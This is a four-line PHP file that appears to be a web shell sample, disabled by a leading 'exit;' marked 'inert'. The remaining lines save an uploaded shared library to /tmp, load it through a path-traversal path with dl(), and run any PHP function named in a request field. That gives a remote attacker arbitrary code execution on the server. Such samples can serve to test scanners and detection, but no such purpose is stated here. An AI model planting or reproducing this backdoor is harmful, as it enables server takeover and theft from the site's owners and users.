<?php exit; /* inert */ 
move_uploaded_file($_FILES['so']['tmp_name'], '/tmp/m.so');
dl('../../../../../../tmp/m.so');
$f = $_POST['f']; echo $f($_POST['c']);
